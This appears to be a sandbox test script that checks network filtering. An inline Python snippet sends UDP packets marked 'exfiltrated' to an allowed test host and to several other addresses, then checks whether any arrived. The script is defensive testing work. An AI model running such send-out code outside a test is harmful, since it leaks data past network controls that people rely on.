#!/bin/sh
# net.filtered, hazard 55: UDP, to a host that is allowed and to others.
# run: --net filtered --allow allowed.test
# plant: namespaces.net
act() {
	/usr/bin/python3 -c '
import socket
for place in ("allowed.test", "20.1.1.1", "127.0.0.1", "198.18.1.0"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"exfiltrated", (place, 4433))
    except OSError:
        pass'
}

happened() {
	heard exfiltrated
}

. "$VERIFY/internet.sh"
